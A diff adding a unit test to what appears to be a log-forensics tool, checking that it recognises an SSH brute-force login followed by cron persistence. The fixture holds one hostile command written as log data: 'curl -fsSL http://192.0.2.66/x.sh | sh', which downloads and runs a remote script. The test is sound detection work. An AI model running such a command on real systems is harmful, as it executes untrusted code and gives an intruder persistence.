@@ -1,4 +1,5 @@
 import { describe, expect, test } from 'bun:test';
+import { accepted, failures, read, sshd } from '../incident/incident.fixture.ts';
 import { eventFixture, logFixture } from '../model/facts/event.fixture.ts';
 import type { LogEvent } from '../model/facts/event.ts';
 import { printableText } from '../model/text.ts';
@@ -61,6 +62,24 @@ describe('hosts of a case', () => {
     expect(analyseHosts(caseOf({ 'db-1': some })).hosts).toEqual([
       { name: 'db-1', logs: 0, events: 1, from: '2001-09-09T01:46:40Z', to: '2001-09-09T01:46:40Z' },
     ]);
+  });
+
+  test('with a guesser that came in and a job after it: probable, and each line is told once', () => {
+    const job = (when: string) =>
+      sshd(when, '(root) CMD (curl -fsSL http://192.0.2.66/x.sh | sh)').replace('sshd[', 'CRON[');
+    const events = read(
+      failures('2024-03-10 02:00:00', 90, 20, ['203.0.113.66'], ['root', 'admin', 'pi']) +
+        accepted('2024-03-10 02:31:00', 'root', '203.0.113.66') +
+        job('2024-03-10 02:32:00') +
+        job('2024-03-10 02:33:00'),
+    );
+    const [host] = analyseHosts(caseOf({ 'db-1': events })).hosts;
+    expect(host?.entry?.[0]).toMatchObject({
+      vector: 'ssh-brute-force',
+      grade: 'probable',
+      missing: ['no-inode-times'],
+    });
+    expect(host?.entry?.[0]?.chain.map(({ step }) => step)).toEqual(['attempt', 'success', 'persistence']);
   });
 
   test('beyond the bound are counted, those with most events are looked at', () => {
